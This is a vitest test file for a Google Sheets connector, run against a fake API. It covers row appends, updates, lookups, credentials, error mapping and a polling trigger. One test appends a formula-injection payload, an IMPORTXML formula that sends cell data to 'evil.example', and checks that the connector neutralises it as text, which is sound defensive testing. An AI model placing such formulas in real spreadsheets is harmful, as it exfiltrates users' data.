import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { googleError } from '../google/fake-auth.ts';
import { memoryTokenSource } from '../google/testing-tokens.ts';
import { clearTokenCache } from '../sdk/auth/index.ts';
import type { ConnectorEnvironment, PollTriggerDefinition } from '../sdk/define.ts';
import { createTestEnvironment } from '../testing/fake-server.ts';
import { docSections, runAction, runActionError } from '../testing/run-action.ts';
import { SHEETS_SCOPE } from './client.ts';
import { googleSheetsConnector } from './connector.ts';
import { type SheetsFake, startSheetsFake } from './fake-server.ts';

let fake: SheetsFake;
let env: ConnectorEnvironment;
let leads: string;

const HEADER = ['Name', 'Email', 'Plan', 'Status'];

beforeAll(async () => {
  fake = await startSheetsFake();
  env = createTestEnvironment({ googlesheets: fake.url, 'google-oauth': fake.oauthUrl });
});
afterAll(async () => {
  await fake.close();
});
beforeEach(() => {
  clearTokenCache();
  leads = fake.create('CRM', {
    Leads: [
      HEADER,
      ['Ada Lovelace', 'ada@example.com', 'Free', 'new'],
      ['Grace Hopper', 'grace@example.com', 'Pro', 'new'],
    ],
    'Q3 leads': [
      ['Region', 'Total'],
      ['EMEA', 1200],
    ],
  });
});

/** An oauth2 credential of the fake person, with the engine's renewal in memory. */
function oauth(scopes: readonly string[] = [SHEETS_SCOPE]) {
  const credential = fake.auth.oauthCredential(scopes);
  const tokens = memoryTokenSource(credential);
  return { credential, tokens, env: { ...env, tokens } };
}

const robot = (scopes: readonly string[] = [SHEETS_SCOPE]) => fake.auth.serviceAccount(scopes);

async function run(key: string, input: unknown) {
  const { credential, env: withTokens } = oauth();
  return runAction(googleSheetsConnector, key, input, {
    env: withTokens,
    credential,
    credentialType: 'oauth2',
  });
}
const runError = (
  key: string,
  input: unknown,
  credential: unknown = robot(),
  type = 'google-service-account',
) => runActionError(googleSheetsConnector, key, input, { env, credential, credentialType: type });

const sent = (method: string, fragment: string) =>
  fake.requests.filter((request) => request.method === method && request.path.includes(fragment)).at(-1);

describe('googlesheets actions against the Sheets API v4 fake', () => {
  it('appendRows maps objects onto the header row and appends with USER_ENTERED below the table', async () => {
    const output = await run('appendRows', {
      spreadsheetId: `https://docs.google.com/spreadsheets/d/${leads}/edit#gid=0`,
      sheet: 'Leads',
      rows: [
        { email: 'linus@example.com', Name: 'Linus', Plan: 'Pro' },
        [
          'Margaret Hamilton',
          'margaret@example.com',
          'Team',
          '=IMPORTXML("https://evil.example/?"&A1,"//a")',
        ],
      ],
    });
    expect(output).toEqual({
      spreadsheetId: leads,
      updatedRange: 'Leads!A4:D5',
      rowsAppended: 2,
      firstRow: 4,
      lastRow: 5,
    });
    const header = sent('GET', '/values/');
    expect(decodeURIComponent(header?.path ?? '')).toBe(`/v4/spreadsheets/${leads}/values/'Leads'!1:1`);
    const append = sent('POST', ':append');
    expect(decodeURIComponent(append?.path ?? '')).toBe(`/v4/spreadsheets/${leads}/values/'Leads'!A1:append`);
    expect(append?.query).toEqual({
      valueInputOption: 'USER_ENTERED',
      insertDataOption: 'INSERT_ROWS',
      includeValuesInResponse: 'false',
    });
    expect(append?.headers.authorization).toMatch(/^Bearer ya29\./);
    expect(append?.body).toEqual({
      majorDimension: 'ROWS',
      values: [
        ['Linus', 'linus@example.com', 'Pro'],
        [
          'Margaret Hamilton',
          'margaret@example.com',
          'Team',
          '\'=IMPORTXML("https://evil.example/?"&A1,"//a")',
        ],
      ],
    });
    // The formula from the row's data is stored as text (Sheets' leading apostrophe), not evaluated.
    expect(fake.rows(leads, 'Leads').at(-1)?.[3]).toBe('=IMPORTXML("https://evil.example/?"&A1,"//a")');
    expect(fake.rows(leads, 'Leads').at(-2)).toEqual(['Linus', 'linus@example.com', 'Pro']);
  });

  it('allowFormulas: true sends a formula as written; updateRow guards formulas too', async () => {
    await run('appendRows', {
      spreadsheetId: leads,
      sheet: 'Leads',
      rows: [['Total', '=COUNTA(A2:A3)']],
      allowFormulas: true,
    });
    expect(sent('POST', ':append')?.body).toMatchObject({ values: [['Total', '=COUNTA(A2:A3)']] });
    await run('updateRow', {
      spreadsheetId: leads,
      sheet: 'Leads',
      rowNumber: 2,
      values: { Status: '+1 call back' },
    });
    expect(sent('PUT', '/values/')?.body).toMatchObject({ values: [[null, null, null, "'+1 call back"]] });
    expect(fake.rows(leads, 'Leads')[1]?.[3]).toBe('+1 call back');
  });

  it('appendRows of arrays only skips the header read; RAW keeps "42" as text', async () => {
    const before = fake.requests.length;
    await run('appendRows', { spreadsheetId: leads, rows: [['x', '42']], valueInputOption: 'RAW' });
    const made = fake.requests.slice(before);
    expect(made.map((request) => request.method)).toEqual(['POST']);
    expect(decodeURIComponent(made[0]?.path ?? '')).toBe(`/v4/spreadsheets/${leads}/values/A1:append`);
    expect(fake.rows(leads, 'Leads').at(-1)).toEqual(['x', '42']);
  });

  it('appendRows names the header columns when a key matches none', async () => {
    const error = await runError('appendRows', {
      spreadsheetId: leads,
      sheet: 'Leads',
      rows: [{ Phone: '+1' }],
    });
    expect(error).toMatchObject({ code: 'E_PARAMS' });
    expect((error as Error).message).toContain('"Phone"');
    expect((error as Error).message).toContain('"Email"');
  });

  it('updateRow by header changes only the named columns (null for the others); an array sets from A', async () => {
    const output = await run('updateRow', {
      spreadsheetId: leads,
      sheet: 'Leads',
      rowNumber: 3,
      values: { Status: 'contacted' },
    });
    expect(output).toEqual({ spreadsheetId: leads, updatedRange: 'Leads!A3:D3', updatedCells: 1 });
    const update = sent('PUT', '/values/');
    expect(decodeURIComponent(update?.path ?? '')).toBe(`/v4/spreadsheets/${leads}/values/'Leads'!A3`);
    expect(update?.query).toEqual({ valueInputOption: 'USER_ENTERED' });
    expect(update?.body).toEqual({ majorDimension: 'ROWS', values: [[null, null, null, 'contacted']] });
    expect(fake.rows(leads, 'Leads')[2]).toEqual(['Grace Hopper', 'grace@example.com', 'Pro', 'contacted']);
    await run('updateRow', {
      spreadsheetId: leads,
      sheet: 'Leads',
      rowNumber: 2,
      values: ['Ada King', null, 'Pro'],
    });
    expect(fake.rows(leads, 'Leads')[1]).toEqual(['Ada King', 'ada@example.com', 'Pro', 'new']);
  });

  it('lookupRows finds rows by header name or letter, exact or contains, case-insensitive', async () => {
    const exact = (await run('lookupRows', {
      spreadsheetId: leads,
      sheet: 'Leads',
      column: 'email',
      value: 'GRACE@example.com',
    })) as { found: boolean; rows: unknown[] };
    expect(exact).toEqual({
      found: true,
      rows: [
        {
          rowNumber: 3,
          values: { Name: 'Grace Hopper', Email: 'grace@example.com', Plan: 'Pro', Status: 'new' },
          cells: ['Grace Hopper', 'grace@example.com', 'Pro', 'new'],
        },
      ],
      headers: HEADER,
      truncated: false,
    });
    const contains = (await run('lookupRows', {
      spreadsheetId: leads,
      sheet: 'Leads',
      column: 'B',
      value: '@example.com',
      match: 'contains',
      limit: 1,
    })) as { rows: { rowNumber: number }[]; truncated: boolean };
    expect(contains.rows.map((row) => row.rowNumber)).toEqual([2]);
    expect(contains.truncated).toBe(true);
    const none = await run('lookupRows', {
      spreadsheetId: leads,
      sheet: 'Leads',
      column: 'Email',
      value: 'nobody',
    });
    expect(none).toMatchObject({ found: false, rows: [] });
    expect(
      await runError('lookupRows', { spreadsheetId: leads, sheet: 'Leads', column: 'Phone', value: 'x' }),
    ).toMatchObject({
      code: 'E_PARAMS',
    });
  });

  it('readRange reads a quoted tab as rows or header-keyed objects, unformatted on request', async () => {
    const read = await run('readRange', {
      spreadsheetId: leads,
      range: "'Q3 leads'!A1:B2",
      valueRenderOption: 'UNFORMATTED_VALUE',
      headerRow: true,
    });
    expect(read).toEqual({
      range: "'Q3 leads'!A1:B2",
      values: [
        ['Region', 'Total'],
        ['EMEA', 1200],
      ],
      rows: [{ Region: 'EMEA', Total: 1200 }],
    });
    expect(sent('GET', '/values/')?.query).toEqual({
      majorDimension: 'ROWS',
      valueRenderOption: 'UNFORMATTED_VALUE',
    });
    const formatted = (await run('readRange', { spreadsheetId: leads, range: 'Q3 leads' })) as {
      values: unknown[][];
    };
    expect(formatted.values[1]).toEqual(['EMEA', '1200']);
  });

  it('clearRange empties the cells and listSheets names the tabs', async () => {
    expect(await run('clearRange', { spreadsheetId: leads, range: 'Leads!A2:D2' })).toEqual({
      spreadsheetId: leads,
      clearedRange: 'Leads!A2:D2',
    });
    expect(sent('POST', ':clear')?.body).toEqual({});
    expect(fake.rows(leads, 'Leads')[1]).toEqual([null, null, null, null]);
    const listed = (await run('listSheets', { spreadsheetId: leads })) as {
      title: string;
      sheets: { title: string }[];
    };
    expect(listed.title).toBe('CRM');
    expect(listed.sheets.map((sheet) => sheet.title)).toEqual(['Leads', 'Q3 leads']);
    expect(sent('GET', `/spreadsheets/${leads}`)?.query).toMatchObject({
      fields: expect.stringContaining('sheets.properties'),
    });
  });
});

describe('googlesheets credentials and Google errors', () => {
  it('a service account signs a JWT for its token; a sheet not shared with it is E_AUTH naming its e-mail', async () => {
    const key = robot();
    expect(
      await runAction(
        googleSheetsConnector,
        'readRange',
        { spreadsheetId: leads, range: 'Leads!A1:A1' },
        {
          env,
          credential: key,
          credentialType: 'google-service-account',
        },
      ),
    ).toMatchObject({ values: [['Name']] });
    const privateSheet = fake.create('Private', { Sheet1: [['x']] }, { sharedWith: [fake.auth.personEmail] });
    const error = await runError('readRange', { spreadsheetId: privateSheet, range: 'Sheet1' }, key);
    expect(error).toMatchObject({ code: 'E_AUTH', retryable: false, status: 403 });
    expect((error as { details: unknown }).details).toMatchObject({ vendorCode: 'PERMISSION_DENIED' });
    expect((error as { hint: string }).hint).toContain(`share it with ${fake.auth.robotEmail}`);
  });

  it('a token without the Sheets scope is E_AUTH telling which scopes to connect with', async () => {
    const { credential, env: withTokens } = oauth(['openid', 'email']);
    const error = await runActionError(
      googleSheetsConnector,
      'readRange',
      { spreadsheetId: leads, range: 'Leads' },
      {
        env: withTokens,
        credential,
        credentialType: 'oauth2',
      },
    );
    expect(error).toMatchObject({
      code: 'E_AUTH',
      details: { vendorCode: 'ACCESS_TOKEN_SCOPE_INSUFFICIENT' },
    });
    expect((error as { hint: string }).hint).toContain(`--provider google --scopes "${SHEETS_SCOPE}"`);
  });

  it('an unknown spreadsheet is E_NOT_FOUND and a bad range E_REQUEST, each with a hint', async () => {
    const missing = await runError('readRange', {
      spreadsheetId: '1missingSpreadsheetId00000000',
      range: 'A1',
    });
    expect(missing).toMatchObject({ code: 'E_NOT_FOUND', details: { vendorCode: 'NOT_FOUND' } });
    expect((missing as { hint: string }).hint).toContain('between /d/ and /edit');
    const bad = await runError('readRange', { spreadsheetId: leads, range: 'Nope!A1' });
    expect(bad).toMatchObject({ code: 'E_REQUEST', details: { vendorCode: 'INVALID_ARGUMENT' } });
    expect((bad as Error).message).toContain('Unable to parse range: Nope!A1');
    expect((bad as { hint: string }).hint).toContain('single quotes');
  });

  it('429 RESOURCE_EXHAUSTED is retryable after RetryInfo; a 403 userRateLimitExceeded is a rate limit too', async () => {
    fake.fail('values.append', {
      status: 429,
      body: googleError(
        429,
        'RESOURCE_EXHAUSTED',
        "Quota exceeded for quota metric 'Write requests' and limit 'Write requests per minute per user' of service 'sheets.googleapis.com'.",
        {
          reason: 'rateLimitExceeded',
          details: [
            {
              '@type': 'type.googleapis.com/google.rpc.ErrorInfo',
              reason: 'RATE_LIMIT_EXCEEDED',
              domain: 'googleapis.com',
            },
            { '@type': 'type.googleapis.com/google.rpc.RetryInfo', retryDelay: '17s' },
          ],
        },
      ),
    });
    const limited = await runError('appendRows', { spreadsheetId: leads, rows: [['x']] });
    expect(limited).toMatchObject({ code: 'E_RATE_LIMITED', retryable: true, retryAfterMs: 17_000 });
    expect((limited as { hint: string }).hint).toContain('quota');
    fake.fail('values.get', {
      status: 403,
      headers: { 'retry-after': '5' },
      body: googleError(403, 'PERMISSION_DENIED', 'User Rate Limit Exceeded', {
        reason: 'userRateLimitExceeded',
        domain: 'usageLimits',
      }),
    });
    expect(await runError('readRange', { spreadsheetId: leads, range: 'Leads' })).toMatchObject({
      code: 'E_RATE_LIMITED',
      retryable: true,
      retryAfterMs: 5000,
      details: { vendorCode: 'userRateLimitExceeded' },
    });
  });

  it('an expired access token is renewed once and the call succeeds', async () => {
    const { credential, tokens, env: withTokens } = oauth();
    fake.auth.expireAccessTokens();
    const grants = fake.auth.refreshGrants();
    const output = await runAction(
      googleSheetsConnector,
      'readRange',
      { spreadsheetId: leads, range: 'Leads!A1' },
      {
        env: withTokens,
        credential,
        credentialType: 'oauth2',
      },
    );
    expect(output).toMatchObject({ values: [['Name']] });
    expect(fake.auth.refreshGrants()).toBe(grants + 1);
    expect(tokens.current().accessToken).not.toBe(credential.accessToken);
  });

  it('a token Google still refuses after the renewal is E_AUTH with the reconnect command; a revoked grant needs a reconnect', async () => {
    const { credential, env: withTokens } = oauth();
    const grants = fake.auth.refreshGrants();
    fake.fail('values.get', {
      status: 401,
      times: 2,
      body: googleError(401, 'UNAUTHENTICATED', 'Request had invalid authentication credentials.'),
    });
    const error = await runActionError(
      googleSheetsConnector,
      'readRange',
      { spreadsheetId: leads, range: 'Leads' },
      {
        env: withTokens,
        credential,
        credentialType: 'oauth2',
      },
    );
    expect(error).toMatchObject({
      code: 'E_AUTH',
      retryable: false,
      details: { vendorCode: 'UNAUTHENTICATED' },
    });
    expect((error as { hint: string }).hint).toContain(
      'vmesh credentials connect NAME --type oauth2 --provider google',
    );
    expect(fake.auth.refreshGrants()).toBe(grants + 1);

    const revoked = oauth();
    fake.auth.expireAccessTokens();
    fake.auth.revokeRefreshTokens();
    expect(
      await runActionError(
        googleSheetsConnector,
        'readRange',
        { spreadsheetId: leads, range: 'Leads' },
        {
          env: revoked.env,
          credential: revoked.credential,
          credentialType: 'oauth2',
        },
      ),
    ).toMatchObject({ code: 'E_CREDENTIAL_RECONNECT' });
  });

  it('refuses an oauth2 credential of another provider, so its token never goes to Google', async () => {
    const credential = {
      ...fake.auth.oauthCredential([SHEETS_SCOPE]),
      provider: 'microsoft',
      tokenUrl: 'https://login.microsoftonline.com/common/oauth2/v2.0/token',
    };
    const before = fake.requests.length;
    expect(
      await runError('readRange', { spreadsheetId: leads, range: 'Leads' }, credential, 'oauth2'),
    ).toMatchObject({
      code: 'E_CREDENTIAL',
    });
    expect(fake.requests.length).toBe(before);
  });

  it('testCredential says who and which scope; a token without one is E_AUTH', async () => {
    const check = (credential: unknown, withEnv: ConnectorEnvironment = env) =>
      googleSheetsConnector.testCredential?.({
        credential,
        client: googleSheetsConnector.createClient({ credential, env: withEnv }),
        signal: AbortSignal.timeout(10_000),
      });
    expect(await check(robot())).toBe(`Google accepts it: ${fake.auth.robotEmail}, with ${SHEETS_SCOPE}.`);
    const { credential, env: withTokens } = oauth();
    expect(await check(credential, withTokens)).toContain(fake.auth.personEmail);
    const narrow = oauth(['openid']);
    await expect(check(narrow.credential, narrow.env)).rejects.toMatchObject({ code: 'E_AUTH' });
  });
});

describe('googlesheets rowAdded trigger', () => {
  const trigger = googleSheetsConnector.triggers.find(
    (candidate) => candidate.key === 'rowAdded',
  ) as PollTriggerDefinition;
  const poll = async (filters: unknown, after?: { at: number; id: string }) => {
    const credential = robot();
    return trigger.poll(
      {
        credential,
        client: googleSheetsConnector.createClient({ credential, env }),
        logger: env.logger,
        signal: AbortSignal.timeout(10_000),
        env,
      },
      trigger.with.parse(filters),
      { after, state: undefined },
    );
  };

  it('lists the rows there on the first poll, then only rows after the last seen row number', async () => {
    const filters = { spreadsheetId: leads, sheet: 'Leads' };
    const first = await poll(filters);
    expect(first.items.map((item) => [item.id, item.at])).toEqual([
      ['row-2', 2],
      ['row-3', 3],
    ]);
    const batch = sent('GET', 'values:batchGet');
    expect(batch?.query).toMatchObject({ ranges: ["'Leads'!1:1", "'Leads'"] });

    fake.type(leads, 'Leads', [['Linus Torvalds', 'linus@example.com', 'Pro', 'new']]);
    const next = await poll(filters, { at: 3, id: 'row-3' });
    expect(sent('GET', 'values:batchGet')?.query).toMatchObject({ ranges: ["'Leads'!1:1", "'Leads'!4:503"] });
    expect(next.items).toEqual([
      {
        id: 'row-4',
        at: 4,
        data: {
          spreadsheetId: leads,
          sheet: 'Leads',
          rowNumber: 4,
          values: { Name: 'Linus Torvalds', Email: 'linus@example.com', Plan: 'Pro', Status: 'new' },
          cells: ['Linus Torvalds', 'linus@example.com', 'Pro', 'new'],
        },
      },
    ]);
    expect(trigger.data.safeParse(next.items[0]?.data).success).toBe(true);
    expect((await poll(filters, { at: 4, id: 'row-4' })).items).toEqual([]);
  });

  it('without a header row every row counts and values are keyed by column letter', async () => {
    const result = await poll(
      { spreadsheetId: leads, sheet: 'Q3 leads', headerRow: false },
      { at: 1, id: 'row-1' },
    );
    expect(result.items.map((item) => item.data)).toEqual([
      {
        spreadsheetId: leads,
        sheet: 'Q3 leads',
        rowNumber: 2,
        values: { A: 'EMEA', B: '1200' },
        cells: ['EMEA', '1200'],
      },
    ]);
    expect(trigger.intervalMs(trigger.with.parse({ spreadsheetId: leads }))).toBe(60_000);
  });
});

it('documents every action and trigger', async () => {
  const doc = await readFile(googleSheetsConnector.docPath, 'utf8');
  expect(docSections(doc)).toEqual([
    ...googleSheetsConnector.actions.map((action) => action.key),
    ...googleSheetsConnector.triggers.map((trigger) => `trigger:${trigger.key}`),
  ]);
});
